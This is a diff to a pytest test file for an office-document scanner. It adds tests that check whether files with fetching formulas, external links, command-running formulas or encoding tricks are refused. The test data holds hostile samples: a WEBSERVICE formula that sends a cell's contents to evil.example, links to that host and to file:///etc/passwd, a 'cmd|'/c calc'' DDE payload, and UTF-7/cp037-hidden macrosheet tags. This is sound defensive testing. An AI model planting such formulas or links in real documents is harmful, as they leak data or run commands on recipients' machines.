@@ -130,6 +130,58 @@ def test_a_field_that_fetches_is_found(field: str) -> None:
         look_at_directory(fields(f" {field} "))
 
 
+def with_formula(formula: str, element: str = "f") -> bytes:
+    told = f"<w><{element}>{formula}</{element}></w>"
+    return with_parts({"xl/worksheets/any": told.encode()})
+
+
+def out_of(element: str, address: str) -> bytes:
+    return opened(f'<a:{element} xlink:href="{address}"/>')
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        with_formula('WEBSERVICE("https://evil.example/?"&amp;A1)'),
+        with_formula('_xlfn.IM&#65;GE("https://evil.example/x.png")'),
+        with_formula("'https://evil.example/[x.xlsx]S'!A1"),
+        with_formula('webservice("https://evil.example")', "definedName"),
+        out_of("image", "https://evil.example/x.png"),
+        out_of("image", "&#104;ttps://evil.example/x.png"),
+        out_of("image", "//evil.example/share/x.png"),
+        out_of("image", "file:///etc/passwd"),
+        out_of("section-source", "https://evil.example/x.odt"),
+        out_of("floating-frame", "https://evil.example/"),
+        out_of("background-image", "https://evil.example/x.png"),
+        out_of("font-face-uri", "https://evil.example/x.ttf"),
+        out_of("form", "https://evil.example/"),
+        out_of("template", "https://evil.example/t.ott"),
+        out_of("auto-reload", "https://evil.example/"),
+    ],
+)
+def test_a_formula_or_an_open_document_that_fetches_is_found(content: bytes) -> None:
+    with pytest.raises(Refused, match="file_fetches"):
+        look_at_directory(content)
+
+
+@pytest.mark.parametrize("formula", ['RTD("evil.prog",,"x")', "cmd|'/c calc'!A0", 'CALL("k","W")'])
+def test_a_formula_that_runs_is_found(formula: str) -> None:
+    with pytest.raises(Refused, match="file_has_macros"):
+        look_at_directory(with_formula(formula))
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-macrosheet/+AD4-</a>',
+        '<?xml version="1.0" encoding="cp037"?><macrosheet/>'.encode("cp037"),
+    ],
+)
+def test_an_encoding_that_hides_words_is_refused(part: bytes) -> None:
+    with pytest.raises(Refused, match="file_damaged"):
+        look_at_directory(with_parts({"xl/any": part}))
+
+
 def test_a_document_deeper_in_others_than_any_is_refused() -> None:
     content = DOCX
     for _level in range(4):
@@ -158,6 +210,13 @@ HONEST = {
     ),
     "words about macros": marked("<w:t>DDEAUTO vbaProject macrosheet vnd.sun.star.script:</w:t>"),
     "a chart with its workbook": with_parts({"word/embeddings/a.xlsx": office("xl/workbook.xml")}),
+    "formulas": with_formula('HYPERLINK("https://example.org","Call (us)")&amp;SUM(A1:B2)'),
+    "a declared encoding": with_parts(
+        {"xl/any": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a/>'}
+    ),
+    "a picture within": out_of("image", "Pictures/x.png"),
+    "a picture in the text": out_of("image", "data:image/png;base64,AA"),
+    "a template": out_of("template", "file:///C:/Templates/memo.ott"),
     "an open document": opened('<a:a xlink:href="https://example.org"/>'),
 }
 
